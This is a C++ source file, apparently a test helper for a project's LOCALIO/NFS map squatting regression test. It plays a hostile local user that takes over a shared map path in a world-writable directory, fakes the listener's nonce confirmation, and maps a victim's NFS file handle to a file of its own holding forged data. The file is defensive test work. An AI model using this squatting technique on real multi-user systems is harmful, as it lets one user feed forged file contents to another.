// SPDX-License-Identifier: LGPL-3.0-or-later
// localio-squatter: the hostile neighbour of issue 22, for
// safety_squatting_test. Run as another uid than the server's (setpriv), it
// takes a map path before the server does: in a directory anyone may write
// (sticky, as /dev/shm), it puts a map and a hello file of its own, made
// with the project's MapWriter in a directory of its own and renamed into
// place, and answers UUID_IS_LOCAL for them on a LOCALIO listener of its
// own. The map sends the victim's file to a file of the squatter's with
// other data: an export row whose root is the squatter's directory, and
// the victim file's real handle (learnt over NFS, as any client may) mapped
// to the squatter's file.
//
//   localio-squatter DIR TARGET RELPATH DATA
// DIR      the directory to squat in: DIR/map and DIR/map.hello are taken
// TARGET   a file to wait for (at most 120 s), holding one line
//          "URL NFS_PORT": the NFS URL of the victim's file and the NFS
//          port of its server (written once that server runs)
// RELPATH  the victim file's path below its export root
// DATA     what the squatter's file holds
// Prints (line-buffered) "squatting port=P file=PATH" (PATH: its file) once
// the files are in place and
// "published export=E" once the victim's handle is mapped; then keeps the
// map's heartbeat until killed. Exit 1 (with a sentence) on any failure.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>  // before libnfs.h (libnfs 4.0)
#include <unistd.h>

#include <nfsc/libnfs.h>
#include <nfsc/libnfs-raw.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "libnfs_fh.h"
#include "localio/localio_service.h"
#include "localio/map_writer.h"
#include "localio/wire_handle.h"

namespace {

int Fail(const std::string& why) {
  std::fprintf(stderr, "localio-squatter: %s\n", why.c_str());
  return 1;
}

// The victim file's wire handle, over NFS; nothing while its server does
// not answer yet.
std::optional<std::vector<uint8_t>> HandleOf(const std::string& url_text) {
  nfs_context* nfs = nfs_init_context();
  if (nfs == nullptr) return std::nullopt;
  std::optional<std::vector<uint8_t>> out;
  nfs_url* url = nfs_parse_url_full(nfs, url_text.c_str());
  nfsfh* fh = nullptr;
  if (url != nullptr && nfs_mount(nfs, url->server, url->path) == 0 &&
      nfs_open(nfs, url->file, O_RDONLY, &fh) == 0) {
    const nfs_fh* wire = nfs_get_fh(fh);
    if (wire != nullptr && wire->len > 0)
      out.emplace(reinterpret_cast<const uint8_t*>(wire->val),
                  reinterpret_cast<const uint8_t*>(wire->val) + wire->len);
    nfs_close(nfs, fh);
  }
  if (url != nullptr) nfs_destroy_url(url);
  nfs_destroy_context(nfs);
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  using localio::Status;
  if (argc != 5) return Fail("usage: localio-squatter DIR TARGET RELPATH DATA");
  const std::string dir = argv[1], target = argv[2], relpath = argv[3], data = argv[4];
  std::setvbuf(stdout, nullptr, _IOLBF, 0);

  // A directory of its own, where the project's own MapWriter accepts to
  // make a map (it is this uid's, below a sticky directory).
  const std::string own = dir + "/squatter-" + std::to_string(getpid());
  const std::string files = own + "/files";
  if (mkdir(own.c_str(), 0755) != 0 || mkdir(files.c_str(), 0755) != 0)
    return Fail("cannot make " + own + ": " + std::strerror(errno));
  const std::string fake = files + "/" + relpath;
  {
    std::ofstream out(fake, std::ios::binary);
    out << data;
    if (!out.flush()) return Fail("cannot write " + fake);
  }
  chmod(fake.c_str(), 0666);  // whichever uid the victim is

  localio::MapConfig config;
  config.path = own + "/map";
  config.max_entries = 64;
  config.mode = 0644;
  std::unique_ptr<localio::MapWriter> map;
  if (Status st = localio::MapWriter::Create(config, &map); !st.ok())
    return Fail("MapWriter: " + st.message);
  chmod(map->hello_path().c_str(), 0666);  // any victim may say hello

  localio::rpc::LocalioServiceOptions options;
  options.bind_address = "127.0.0.1";
  localio::rpc::LocalioService listener(
      options, [&map](const localio::Nonce& nonce) { map->ConfirmNonce(nonce); });
  if (Status st = listener.Start(); !st.ok()) return Fail("listener: " + st.message);
  map->SetPort(listener.port());
  map->Heartbeat();

  // Into place: the hello file first, as a server does.
  if (rename(map->hello_path().c_str(), (dir + "/map.hello").c_str()) != 0 ||
      rename(map->path().c_str(), (dir + "/map").c_str()) != 0)
    return Fail("cannot take " + dir + "/map: " + std::strerror(errno));
  std::printf("squatting port=%u file=%s\n", static_cast<unsigned>(listener.port()), fake.c_str());

  // The victim's server: once it runs, its NFS port goes in the header (so
  // that clients of that server take the map for their server's) and the
  // victim file's handle is mapped to the fake file.
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(120);
  bool published = false;
  while (true) {
    map->Heartbeat();
    std::ifstream in(target);
    std::string url;
    unsigned nfs_port = 0;
    if (!published && in >> url >> nfs_port) {
      const std::optional<std::vector<uint8_t>> wire = HandleOf(url);
      const std::optional<localio::WireHandle> handle =
          wire ? localio::ParseWireHandle(*wire, config.fh_format) : std::nullopt;
      if (handle) {
        localio::MapExport row;
        row.export_id = static_cast<uint16_t>(handle->export_id);
        row.server_root = files;
        row.squash = localio::MapSquash::kNone;
        if (Status st = map->SetExport(row); !st.ok()) return Fail("SetExport: " + st.message);
        struct statx sx;
        const int fd = open(fake.c_str(), O_RDONLY | O_CLOEXEC);
        if (fd < 0 || statx(fd, "", AT_EMPTY_PATH, STATX_BASIC_STATS | STATX_BTIME, &sx) != 0)
          return Fail("cannot stat " + fake);
        const int rc = map->Publish(row.export_id, handle->opaque, relpath, sx.stx_ino,
                                    makedev(sx.stx_dev_major, sx.stx_dev_minor),
                                    localio::MapObjectType::kRegular,
                                    localio::MapInodeStampOf(fd, sx));
        close(fd);
        if (rc != 0) return Fail("Publish: " + std::string(std::strerror(-rc)));
        map->SetPort(listener.port(), static_cast<uint16_t>(nfs_port));
        std::printf("published export=%u\n", static_cast<unsigned>(row.export_id));
        published = true;
      }
    }
    if (!published && std::chrono::steady_clock::now() > deadline)
      return Fail("no victim server at " + target + " within 120 s");
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
}
